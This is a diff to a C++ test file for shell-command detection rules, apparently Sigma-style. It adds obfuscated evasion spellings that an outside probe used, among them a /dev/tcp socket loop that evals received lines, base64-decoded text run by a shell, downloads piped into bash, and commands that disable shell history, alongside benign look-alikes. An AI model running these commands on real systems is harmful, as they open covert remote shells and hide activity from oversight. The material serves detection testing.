@@ -58,6 +58,27 @@ const std::vector<std::pair<Exec, std::set<std::string>>> kCases{
     {{142, "/usr/bin/rm", "rm -f /root/.bash_history"}, {"Shell history cleared or disabled"}},
     {{143, "/usr/bin/cat", "cat /root/.bash_history"}, {}},
     {{144, "/usr/bin/rm", "rm -rf /tmp/build"}, {}},
+    // Spellings an outside probe (session 14) got past the rules with.
+    {{151, "/usr/bin/bash", "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001; while read -r -u 5 l; do eval \"$l\"; done"},
+     {"Shell redirected to a /dev/tcp or /dev/udp socket"}},
+    {{152, "/usr/bin/bash", "bash -c cat </d'e'v/tc\\p/10.0.0.1/80"}, {"Shell redirected to a /dev/tcp or /dev/udp socket"}},
+    {{153, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 --dec | sh"}, {"Base64-decoded text run by a shell"}},
+    {{154, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 -d | /bin/sh"}, {"Base64-decoded text run by a shell"}},
+    {{155, "/usr/bin/bash", "bash -c base64 -w0 -di x.b64 |  /usr/bin/env bash"}, {"Base64-decoded text run by a shell"}},
+    {{156, "/usr/bin/bash", "bash -c curl -fsSL https://x.example/i | /bin/bash"}, {"Download piped straight into a shell"}},
+    {{157, "/usr/bin/bash", "bash -c wget -qO- https://x.example/i | sudo -E /usr/bin/zsh"}, {"Download piped straight into a shell"}},
+    {{158, "/usr/bin/bash", "bash -c unset  HISTFILE"}, {"Shell history cleared or disabled"}},
+    {{159, "/usr/bin/bash", "bash -c set +o history"}, {"Shell history cleared or disabled"}},
+    {{160, "/usr/bin/bash", "bash -c unset\tHISTFILE; id"}, {"Shell history cleared or disabled"}},
+    // Ordinary commands beside them.
+    {{161, "/usr/bin/bash", "bash -c base64 -d key.b64 | shasum"}, {}},
+    {{162, "/usr/bin/bash", "bash -c base64 --decode bundle.b64 | tar -x"}, {}},
+    {{163, "/usr/bin/bash", "bash -c curl -s https://x.example/lint.sh | bashate -"}, {}},
+    {{164, "/usr/bin/bash", "bash -c curl -s https://x.example/key | sudo tee /etc/apt/keyrings/x.asc"}, {}},
+    {{165, "/usr/bin/bash", "bash -c set -o history; set +o vi"}, {}},
+    {{166, "/usr/bin/bash", "bash -c echo $HISTFILE; printenv HISTFILESIZE"}, {}},
+    {{167, "/usr/bin/ls", "ls -l /dev/tcp"}, {}},
+    {{168, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 | sh-copy-id"}, {}},
 };
 
 TEST(SigmaBundled, EachRuleLoadsAndFindsWhatItIsFor) {
